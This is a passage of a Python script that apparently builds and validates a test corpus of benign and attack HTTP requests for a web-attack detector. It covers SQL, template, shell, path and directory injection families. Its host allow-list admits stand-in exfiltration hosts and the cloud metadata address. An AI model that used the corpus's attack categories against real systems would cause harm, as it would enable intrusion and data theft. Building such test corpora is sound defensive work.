    "ntp_server": ["time.example.net"], "target": ["www.example.org"], "ctl00$Main$txtHost": ["intranet.example.org"],
    "folder": ["D:\\Backups\\Daily"], "fileName": ["Sales Q2.xlsx"],
    "file": ["report-2024-06.pdf", "app.log"], "path": ["projects/readme.md"], "src": ["logo.png"], "page": ["home"],
    "resource": ["templates/invoice.html"], "reportFile": ["monthly.rpt"], "view": ["dashboard"], "img": ["sunset.jpg"],
    "uid": ["jdoe"],
}
# Families whose parameters carry code by design (script consoles): no paired values.
PAIRED_SKIP = {"groovy", "script", "struts"}


def benign_paired(B):
    groups = [("sql", SQL_SITES), ("tmpl", SSTI_SITES), ("expr", EL_SITES), ("shell", SHELL_SITES), ("path", LFI_SITES),
              ("dir", {"ldap": LDAP_SITES, "xpath": XPATH_SITES})]
    n = 0
    for gname, fams in groups:
        for fam, sites in fams.items():
            if fam in PAIRED_SKIP:
                continue
            for site in sites:
                params = site.param.items() if isinstance(site.param, dict) else [(None, site.param)]
                if site.kind not in ("query", "form", "cookie", "header", "rawquery"):
                    # The template fixes the field; only the string-context name describes it.
                    params = list(params)[:1]
                seen = set()
                for ctx, p in params:
                    if p in seen:
                        continue
                    seen.add(p)
                    vals = PARAM_VALUES.get(p) or (["reports", "2024-06-03"] if p else ["summer-sale", "1042"])
                    for v in vals[:2]:
                        n += 1
                        B.em.k += 1
                        B.em.out.append(place(B.em.rid("benign", "paired-%s-%s" % (gname, fam)), "benign", "pass",
                                              site, v, B.em.k, desc="ordinary value at an attack site", ctx=ctx))


def benign():
    B = Benign()
    benign_search(B)
    benign_dashboards(B)
    benign_bi(B)
    benign_es(B)
    benign_mongo_couch_redis(B)
    benign_graph(B)
    benign_ldap_xpath(B)
    benign_templates(B)
    benign_expressions(B)
    benign_configs(B)
    benign_serialised(B)
    benign_lookalikes(B)
    benign_dev_content(B)
    benign_paired(B)
    return B.em.out


# ============================================================================ validation

HOST_OK = re.compile(r"""^(?:
    (?:[a-z0-9-]+\.)*example(?:\.(?:com|org|net|io|lan))?
  | (?:[a-z0-9-]+\.)*(?:test|invalid|localhost)
  | localhost | 127\.0\.0\.1 | 169\.254\.169\.254 | 0\.0\.0\.0
  | 192\.0\.2\.\d+ | 198\.51\.100\.\d+ | 203\.0\.113\.\d+
  | \[::1\]
  # XML namespaces, DTD public identifiers and schema ids that documents name but never fetch
  | www\.w3\.org | schemas\.(?:microsoft|openxmlformats|xmlsoap)\.(?:com|org) | xml\.apache\.org | php\.net
  | bpmn\.io | camunda\.org | www\.omg\.org | bea\.com | maven\.apache\.org | www\.apple\.com | www\.oasis-open\.org
  | www\.topografix\.com | schema\.org | schema\.getpostman\.com | owncloud\.org | exist\.sourceforge\.net
  | type\.googleapis\.com | kubernetes\.default\.svc | lb
  | attacker\.blob\.core\.windows\.net | exfil-bucket | idp\.example\.com
)$""", re.X)


SESSION_COOKIE = re.compile(r"^(?:csrftoken|sessionid|_shop_session|XSRF-TOKEN|laravel_session|PHPSESSID|JSESSIONID|ASP\.NET_SessionId|"
                            r"\.ASPXAUTH|connect\.sid|session|wordpress_logged_in_[0-9a-f]+|ORA_WWV_APP_100|gsid|sysauth)=")


def _hosts(text):
    for m in re.finditer(r"(?:https?|ldaps?|rmi|gopher|dict|ftp|jar:http)://\[?([A-Za-z0-9.\-_:]+?)\]?(?=[:/?#\s\"'<>\\)]|$)", text):
        yield m.group(1).split(":")[0].lower()


def validate(paths):
    ids, bodies, errors, counts = set(), set(), [], {}
    for path in paths:
        for n, line in enumerate(open(path, encoding="utf-8"), 1):
            where = "%s:%d" % (path, n)
            try:
                r = json.loads(line)
            except ValueError as e:
                errors.append("%s: not JSON (%s)" % (where, e))
                continue
            for f in ("id", "set", "category", "expect"):
                if f not in r:
                    errors.append("%s: no %s" % (where, f))
            if r.get("id") in ids:
                errors.append("%s: duplicate id %s" % (where, r.get("id")))
            ids.add(r.get("id"))
            if r.get("expect") not in ("detect", "pass"):
                errors.append("%s: expect %r" % (where, r.get("expect")))
            if r.get("expect") == "pass" and r.get("category") not in ("benign", "dev-content"):
                errors.append("%s: benign with category %r" % (where, r.get("category")))
            if r.get("category") == "dev-content" and "/dev-content/" not in r["id"]:
                errors.append("%s: dev-content id without /dev-content/" % where)
            counts[(r.get("expect"), r.get("category"))] = counts.get((r.get("expect"), r.get("category")), 0) + 1
            if "raw_b64" in r:
                raw = base64.b64decode(r["raw_b64"])
                head, sep, body = raw.partition(b"\r\n\r\n")
                if not sep:
                    errors.append("%s: raw request without a header end" % where)
                cl = re.search(rb"\r\nContent-Length: (\d+)\r\n", head + b"\r\n")
                if cl and int(cl.group(1)) != len(body):
                    errors.append("%s: raw Content-Length %s != %d" % (where, cl.group(1), len(body)))
                text = raw.decode("latin-1")
                key = raw
            else:
                for f in ("method", "uri", "version", "headers"):
                    if f not in r:
                        errors.append("%s: no %s" % (where, f))
                hs = {a.lower(): b for a, b in r["headers"]}
                if "host" not in hs:
                    errors.append("%s: no Host" % where)
                body = r.get("body")
                if body is not None:
                    if hs.get("content-length") != str(len(body.encode("utf-8"))):
                        errors.append("%s: Content-Length %s != %d" % (where, hs.get("content-length"), len(body.encode("utf-8"))))
                    ct = hs.get("content-type", "")
                    if ct.startswith("application/json") or ct.endswith("+json"):
                        try:
                            json.loads(body)
                        except ValueError as e:
                            errors.append("%s: JSON body does not parse (%s)" % (where, e))
                    elif ct.startswith("application/x-www-form-urlencoded"):
                        try:
                            parse_qsl(body, keep_blank_values=True, strict_parsing=True)
                        except ValueError as e:
                            errors.append("%s: form body does not parse (%s)" % (where, e))
                    elif ct.startswith("multipart/form-data"):
                        b = ct.split("boundary=", 1)[1]
                        if not body.startswith("--" + b + "\r\n") or not body.endswith("--" + b + "--\r\n"):
                            errors.append("%s: multipart framing" % where)
                    elif ct.startswith("application/x-ndjson"):
                        for l in body.splitlines():
                            json.loads(l)
                text = r["uri"] + "\n" + "\n".join("%s: %s" % (a, b) for a, b in r["headers"]) + "\n" + (body or "")
                # Sessions, tokens and client names vary by construction; what the request says does not.
                key = json.dumps([r["method"], r["uri"], body,
                                  [h for h in r["headers"] if h[0] not in ("Cookie", "Authorization", "User-Agent", "X-CSRFToken", "X-CSRF-Token", "X-XSRF-TOKEN", "Host", "Accept-Language", "Accept")],
                                  [c for c in hs.get("cookie", "").split("; ") if not SESSION_COOKIE.match(c)]])
            if key in bodies:
                errors.append("%s: same request as an earlier line" % where)
            bodies.add(key)
            for h in set(_hosts(text)):
                if not HOST_OK.match(h):
                    errors.append("%s: host %s is not an example/documentation name" % (where, h))
    for (e, c), v in sorted(counts.items(), key=lambda x: (str(x[0][0]), str(x[0][1]))):
        print("%-7s %-12s %5d" % (e, c, v), file=sys.stderr)
    for e in errors:
        print(e, file=sys.stderr)
    print("%d records, %d problems" % (len(ids), len(errors)), file=sys.stderr)
    return 1 if errors else 0


def main(argv):
    if len(argv) >= 2 and argv[1] in ("attacks", "benign"):
        recs = attacks() if argv[1] == "attacks" else benign()
        out = sys.stdout
        for r in recs:
            out.write(json.dumps(r, ensure_ascii=False) + "\n")
        return 0
    if len(argv) >= 3 and argv[1] == "validate":
        return validate(argv[2:])
    print(__doc__.split("Run")[1], file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main(sys.argv))
